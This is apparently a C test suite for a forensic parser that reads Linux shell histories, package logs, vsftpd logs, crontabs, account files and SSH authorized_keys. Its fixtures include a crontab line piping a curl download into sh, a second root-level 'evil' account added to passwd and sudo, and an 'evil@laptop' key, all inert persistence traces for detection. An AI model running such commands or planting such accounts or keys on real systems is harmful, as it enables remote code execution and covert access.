/* linux_text_test.c - shell histories, package logs, crontabs, accounts, keys. */
#include "tests/support/capture.h"
#include "tests/support/story.h"

#include "base/encoding.h"

extern const struct ak_artefact ak_linux_accounts, ak_linux_apt_history, ak_linux_authorized_keys,
    ak_linux_crontab, ak_linux_dpkg, ak_linux_shell_history, ak_linux_vsftpd, ak_linux_yum;

static void run(struct capture *c, const struct ak_artefact *a, const char *path, const char *text)
{
    c->path = path;
    capture_run(c, a, ak_bytes_str(ak_str_of(text)));
}

static enum ak_bid bid(const struct ak_artefact *a, const char *path, const char *text)
{
    struct ak_str s = ak_str_of(text);
    return a->probe(&(struct ak_probe){ ak_str_of(path), ak_bytes_str(s), s.n });
}

static void shells(struct capture *c)
{
    TEST ("bash: commands before the first time have none, those behind one share its lines") {
        run(c, &ak_linux_shell_history, "home/mio/.bash_history",
            "id\nwho\n#1380630977\ncat <<X\nhello\nX\n#1380630978\nls\n");
        CHECK(c->n_events == 4);
        CHECK(!capture_has_key(c, 1, "datetime"));
        CHECK(capture_has(c, 1, "timestamp_desc", "\"Not a time\""));
        CHECK(capture_has(c, 2, "process.command_line", "\"cat <<X\\nhello\\nX\""));
        CHECK(capture_has(c, 2, "datetime", "\"2013-10-01T12:36:17Z\""));
        CHECK(capture_has(c, 3, "user.name", "\"mio\""));
        capture_free(c);
    }

    TEST ("bash: a time that no command follows is damage, not silence") {
        run(c, &ak_linux_shell_history, "root/.bash_history", "#1380630977\n#1380630978\nls\n");
        CHECK(c->n_events == 1 && c->n_damage == 1);
        CHECK(capture_has(c, 0, "user.name", "\"root\""));
        capture_free(c);
    }

    TEST ("zsh: times, seconds run, lines continued, and bytes it hides") {
        run(c, &ak_linux_shell_history, "Users/mio/.zsh_history",
            ": 1700000000:12;echo a\\\nb\n: 1700000001:0;echo \xE8\x83\x88\xA8\n");
        CHECK(c->n_events == 2);
        CHECK(capture_has(c, 0, "process.command_line", "\"echo a\\\\\\nb\""));
        CHECK(capture_has(c, 0, "zsh.elapsed_seconds", "12"));
        CHECK(capture_has(c, 0, "data_type", "\"shell:zsh:history\""));
        CHECK(capture_has(c, 1, "process.command_line", "\"echo \xE8\xA8\xA8\""));
        capture_free(c);
    }

    TEST ("fish: commands with their times, escapes resolved, paths passed over") {
        run(c, &ak_linux_shell_history, "home/mio/.local/share/fish/fish_history",
            "- cmd: echo a\\nb \\\\ c\n  when: 1700000000\n  paths:\n    - a\n- cmd: ls\n");
        CHECK(c->n_events == 2);
        CHECK(capture_has(c, 0, "process.command_line", "\"echo a\\nb \\\\ c\""));
        CHECK(capture_has(c, 0, "datetime", "\"2023-11-14T22:13:20Z\""));
        CHECK(!capture_has_key(c, 1, "datetime"));
        capture_free(c);
    }

    TEST ("a list of commands is a history only where histories are kept") {
        CHECK(bid(&ak_linux_shell_history, "root/.bash_history", "id\n") > AK_BID_NO);
        CHECK(bid(&ak_linux_shell_history, "root/notes.txt", "id\n") == AK_BID_NO);
        CHECK(bid(&ak_linux_shell_history, "x", "#1380630977\nid\n") == AK_BID_LIKELY);
        CHECK(bid(&ak_linux_shell_history, "collected/web01.bash_history.1", "id\n") > AK_BID_NO);
        CHECK(bid(&ak_linux_shell_history, "root/.zsh_history-20240101", "id\n") > AK_BID_NO);
        CHECK(bid(&ak_linux_shell_history, "root/.bash_history~", "id\n") > AK_BID_NO);
        CHECK(bid(&ak_linux_shell_history, "x/bash_history.plaso-expect.json", "{\n") == AK_BID_NO);
        CHECK(bid(&ak_linux_shell_history, "x/bash_history_reader.py", "id\n") == AK_BID_NO);
    }
}

static void packages(struct capture *c)
{
    TEST ("dpkg: what was done to which package, from and to which version") {
        run(c, &ak_linux_dpkg, "var/log/dpkg.log",
            "2016-08-03 15:25:53 upgrade nmap:amd64 7.1 7.2\n"
            "2016-08-03 15:25:54 install base:all <none> 3.5\n"
            "2016-08-03 15:25:55 status installed base:all 3.5\n2016-08-03 15:25:56 startup "
            "archives unpack\n");
        CHECK(c->n_events == 4 && c->n_damage == 0);
        CHECK(capture_has(c, 0, "event.action", "\"package_upgrade\""));
        CHECK(capture_has(c, 0, "package.previous_version", "\"7.1\"") &&
              capture_has(c, 0, "package.version", "\"7.2\""));
        CHECK(!capture_has_key(c, 1, "package.previous_version"));
        CHECK(capture_has(c, 2, "package.status", "\"installed\"") &&
              capture_has(c, 2, "package.version", "\"3.5\""));
        capture_free(c);
    }

    TEST ("apt: every action of a block is an event; who asked for it is kept") {
        run(c, &ak_linux_apt_history, "var/log/apt/history.log",
            "\nStart-Date: 2019-07-11  12:20:55\nCommandline: apt install nmap\nRequested-By: mio "
            "(1000)\n"
            "Install: nmap:amd64 (7.1)\nRemove: ncat:amd64 (1)\nError: Sub-process "
            "failed\nEnd-Date: 2019-07-11  12:21:28\n"
            "\nStart-Date: 2019-07-12  12:20:55\nCommandline: apt update\n");
        CHECK(c->n_events == 3);
        CHECK(capture_has(c, 0, "event.action", "\"package_install\"") &&
              capture_has(c, 1, "event.action", "\"package_remove\""));
        CHECK(capture_has(c, 0, "user.name", "\"mio\"") &&
              capture_has(c, 0, "user.id", "\"1000\""));
        CHECK(capture_has(c, 0, "event.end", "\"2019-07-11T12:21:28Z\"") &&
              capture_has(c, 1, "event.outcome", "\"failure\""));
        CHECK(capture_has(c, 2, "process.command_line", "\"apt update\"") &&
              !capture_has_key(c, 2, "event.end"));
        capture_free(c);
    }

    TEST ("yum writes no year, dnf does; both say what was installed") {
        c->modified = ak_stamp_unix(1710028800, 0, AK_PREC_S);
        run(c, &ak_linux_yum, "var/log/yum.log",
            "Dec 22 07:52:33 Installed: nmap-7.x86_64\nJan  2 07:52:33 Erased: nmap\n");
        CHECK(capture_has(c, 0, "datetime", "\"2023-12-22T07:52:33Z\"") &&
              capture_has(c, 1, "datetime", "\"2024-01-02T07:52:33Z\""));
        CHECK(capture_has(c, 0, "package.name", "\"nmap-7.x86_64\"") &&
              capture_has(c, 1, "event.action", "\"package_remove\""));
        capture_free(c);
        c->modified = (struct ak_stamp){ 0 };
        run(c, &ak_linux_yum, "var/log/dnf.log",
            "2023-01-01T12:00:00+0900 DEBUG Command: dnf install nmap\n2023-01-01T12:00:01+0900 "
            "SUBDEBUG Installed: nmap\n  more\n");
        CHECK(c->n_events == 2);
        CHECK(capture_has(c, 0, "datetime", "\"2023-01-01T03:00:00Z\"") &&
              capture_has(c, 0, "process.command_line", "\"dnf install nmap\""));
        CHECK(capture_has(c, 0, "log.level", "\"DEBUG\"") &&
              capture_has(c, 1, "data_type", "\"linux:dnf_log:entry\""));
        capture_free(c);
    }

    TEST ("vsftpd: who took which file, or failed to") {
        run(c, &ak_linux_vsftpd, "var/log/vsftpd.log",
            "Mon Jun  6 18:43:28 2016 [pid 2] CONNECT: Client \"1.2.3.4\"\n"
            "Mon Jun  6 18:44:19 2016 [pid 3] [mio] FAIL DOWNLOAD: Client \"1.2.3.4\", \"/a\", "
            "0.00Kbyte/sec\n");
        CHECK(capture_has(c, 0, "event.action", "\"ftp_connection\"") &&
              capture_has(c, 0, "process.pid", "2"));
        CHECK(capture_has(c, 1, "user.name", "\"mio\"") &&
              capture_has(c, 1, "event.outcome", "\"failure\""));
        CHECK(capture_has(c, 1, "datetime", "\"2016-06-06T18:44:19Z\""));
        capture_free(c);
    }
}

static void states(struct capture *c)
{
    TEST ("the system's crontab names users, a user's own is named after him") {
        run(c, &ak_linux_crontab, "etc/crontab",
            "# x\nPATH=/bin\n17 *\t* * *\troot\tcd / && run it\n@reboot mio /bin/x\n");
        CHECK(c->n_events == 3);
        CHECK(capture_has(c, 0, "message", "\"PATH=/bin\""));
        CHECK(capture_has(c, 1, "user.name", "\"root\"") &&
              capture_has(c, 1, "process.command_line", "\"cd / && run it\""));
        CHECK(capture_has(c, 2, "cron.schedule", "\"@reboot\"") &&
              capture_has(c, 2, "user.name", "\"mio\""));
        capture_free(c);
        run(c, &ak_linux_crontab, "var/spool/cron/crontabs/mio",
            "*/5 1-3 * jan mon,tue curl http://x | sh\nnonsense\n");
        CHECK(c->n_events == 2 && c->n_damage == 1);
        CHECK(capture_has(c, 0, "user.name", "\"mio\"") &&
              capture_has(c, 0, "cron.schedule", "\"*/5 1-3 * jan mon,tue\""));
        capture_free(c);
        CHECK(bid(&ak_linux_crontab, "home/mio/notes", "1 2 3 4 5 six\n") == AK_BID_NO);
    }

    TEST ("a shadow line gives the scheme and the day of the password, never its hash") {
        run(c, &ak_linux_accounts, "etc/shadow",
            "root:$6$salt$secrethash:19239:0:99999:7:::\nmio:!:19000:0::7::19500:\nx:broken\n");
        CHECK(c->n_events == 2 && c->n_damage == 1);
        CHECK(capture_has(c, 0, "user.password.scheme", "\"sha512crypt\"") &&
              capture_has(c, 0, "datetime", "\"2022-09-04T00:00:00Z\""));
        CHECK(!strstr(c->lines[0], "secrethash") && !strstr(c->lines[0], "salt"));
        CHECK(capture_has(c, 1, "user.password.locked", "true") &&
              capture_has(c, 1, "user.expires", "\"2023-05-23T00:00:00Z\""));
        capture_free(c);
    }

    TEST ("a second account with the number 0 stands out in passwd") {
        run(c, &ak_linux_accounts, "etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nevil:$1$abc$def:0:0::/:/bin/sh\n");
        CHECK(capture_has(c, 1, "user.id", "\"0\"") &&
              capture_has(c, 1, "user.password.scheme", "\"md5crypt\""));
        CHECK(!strstr(c->lines[1], "$abc$"));
        capture_free(c);
        run(c, &ak_linux_accounts, "etc/group", "sudo:x:27:mio,evil\n");
        CHECK(capture_has(c, 0, "group.name", "\"sudo\"") &&
              capture_has(c, 0, "group.members", "\"mio,evil\""));
        capture_free(c);
    }

    TEST ("an authorised key gives its type, its comment, and whose door it opens") {
        run(c, &ak_linux_authorized_keys, "home/mio/.ssh/authorized_keys",
            "from=\"10.0.0.1\",command=\"a b\" ssh-ed25519 AAAAC3Nz evil@laptop home\nssh-rsa "
            "AAAAB3\n");
        CHECK(c->n_events == 2 && c->n_damage == 0);
        CHECK(capture_has(c, 0, "ssh.key.type", "\"ssh-ed25519\"") &&
              capture_has(c, 0, "ssh.key.comment", "\"evil@laptop home\""));
        CHECK(
            capture_has(c, 0, "ssh.key.options", "\"from=\\\"10.0.0.1\\\",command=\\\"a b\\\"\""));
        CHECK(capture_has(c, 1, "user.name", "\"mio\""));
        capture_free(c);
    }

    TEST ("an authorised key has the fingerprint that ssh-keygen -l gives it, a broken one none") {
        run(c, &ak_linux_authorized_keys, "root/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPOK0vvniZtJuLwqL+BdwXIJAVSjSDJj7+8oFIuIhspF "
            "test\nssh-rsa AAAA*B3\n");
        CHECK(capture_has(c, 0, "ssh.key.fingerprint",
                          "\"SHA256:o/nrYJ78DOUjqCItl7EdFow1RCMS3ziFRc4Mw+IKEsI\""));
        CHECK(c->n_events == 2 && !capture_has_key(c, 1, "ssh.key.fingerprint"));
        capture_free(c);
    }
}

static void truncations(struct capture *c)
{
    static const struct {
        const struct ak_artefact *a;
        const char *path, *text;
    } WHOLE[] = {
        { &ak_linux_accounts, "etc/shadow",
          "root:$6$salt$h:19239:0:99999:7:::\nmio:!:19000:0::7::19500:\n" },
        { &ak_linux_apt_history, "history.log",
          "Start-Date: 2019-07-11  12:20:55\nInstall: a:b (7.1)\nEnd-Date: 2019-07-11  "
          "12:21:28\n" },
        { &ak_linux_authorized_keys, "authorized_keys",
          "from=\"a\\\"b\" ssh-ed25519 AAAAC3Nz evil@laptop\n" },
        { &ak_linux_crontab, "etc/crontab", "PATH=/\n17 * * * * root cd\n@reboot mio x\n" },
        { &ak_linux_dpkg, "dpkg.log", "2016-08-03 15:25:53 upgrade nmap:amd64 7.1 7.2\n" },
        { &ak_linux_shell_history, ".bash_history", "id\n#1380630977\ncat\n#1380630978\nls\n" },
        { &ak_linux_shell_history, ".zsh_history",
          ": 1700000000:12;echo a\\\nb\n: 1700000001:0;echo \xE8\x83\x88\n" },
        { &ak_linux_shell_history, "fish_history",
          "- cmd: echo a\\nb\n  when: 1700000000\n- cmd: ls\n" },
        { &ak_linux_vsftpd, "vsftpd.log",
          "Mon Jun  6 18:44:19 2016 [pid 3] [mio] OK LOGIN: Client \"1.2.3.4\"\n" },
        { &ak_linux_yum, "dnf.log", "2023-01-01T12:00:00+0900 DEBUG Command: dnf install nmap\n" },
    };
    TEST ("every truncation of each of them is read as far as it goes") {
        for (size_t i = 0; i < sizeof(WHOLE) / sizeof(WHOLE[0]); i++)
            for (size_t n = 0; n <= strlen(WHOLE[i].text); n++) {
                c->path = WHOLE[i].path;
                capture_run(c, WHOLE[i].a, (struct ak_bytes){ (const uint8_t *)WHOLE[i].text, n });
                CHECK(c->status == AK_OK || (c->status == AK_ERR_CORRUPT && c->n_damage));
                CHECK(n < strlen(WHOLE[i].text) || c->n_events > 0);
                struct ak_probe p = { ak_str_of(c->path), { c->exact, n }, n };
                CHECK(WHOLE[i].a->probe(&p) <= AK_BID_SURE);
                capture_free(c);
            }
    }
}

int main(void)
{
    struct capture c = { 0 };
    ak_encoding_open();
    shells(&c);
    packages(&c);
    states(&c);
    truncations(&c);
    return story_report();
}
